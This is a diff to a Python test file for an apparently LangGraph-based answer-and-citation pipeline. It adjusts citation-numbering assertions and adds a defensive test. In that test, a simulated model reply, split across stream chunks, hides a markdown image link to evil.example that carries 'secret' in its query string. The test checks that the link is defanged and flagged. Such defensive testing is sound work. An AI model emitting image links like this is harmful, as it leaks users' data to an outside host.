@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 
 import pytest
 from langgraph.checkpoint.memory import InMemorySaver
@@ -49,8 +50,12 @@ async def test_v1_labels_are_renumbered_alike_in_answer_citations_and_provenance
 async def test_s1_s4_every_style_numbers_by_first_use_and_the_listing_agrees(style) -> None:
     result = await build("Client credentials [2].", style)[0].ainvoke(ask())
     texts = {row["label"]: row["source_name"] for row in result["provenance"]["results"]}
-    assert [one["label"] for one in result["citations"]] == [1, 2]
-    assert {one["label"]: one["source_name"] for one in result["citations"]} == texts
+    cited = {one["label"]: one["source_name"] for one in result["citations"]}
+    assert cited.items() <= texts.items()
+    # Without a model what is listed and not quoted is no citation.
+    assert set(cited) == (
+        {1, 2} if style == "hybrid" else {int(n) for n in re.findall(r"^> .* \[(\d)\]$", result["answer"], re.M)}
+    )
     if style == "hybrid":
         assert result["answer"].startswith("Client credentials [1].\n\n## Sources")
         assert "- [1] 0 (relevance" in result["answer"]
@@ -167,13 +172,18 @@ def test_u6_an_unknown_policy_is_an_error() -> None:
         load_settings({"citation_check": {"numbers": "maybe"}})
 
 
+@pytest.mark.covers("fault 57", "F8")
 async def test_fault_57_an_image_to_an_outside_host_is_never_streamed() -> None:
     reply = Reply(chunks=["OAuth has four grant types [1] ![x](ht", "tps://evil.example/?q=", "secret) and more."])
     graph, _ = build(reply, checkpointer=InMemorySaver())
     pieces = [chunk.text async for chunk, _ in graph.astream(ask(), thread(), stream_mode="messages")]
-    assert "".join(pieces) == "OAuth has four grant types [1] and more."
+    told = "OAuth has four grant types [1] \\![x]\\(https[://]evil[.]example/?q=secret) and more."
+    assert "".join(pieces) == told
     result = await build(reply)[0].ainvoke(ask())
-    assert "link_removed" in kinds(result)
+    assert result["answer"] == told
+    (flag,) = [flag for flag in result["support"]["flags"] if flag["kind"] == "link_removed"]
+    assert flag["detail"] == "https[://]evil[.]example/?q=secret leads elsewhere than the evidence allows"
+    assert "evil.example" not in str(result["provenance"])
     assert any("do not lead to the evidence" in note for note in result["notes"])
 
 
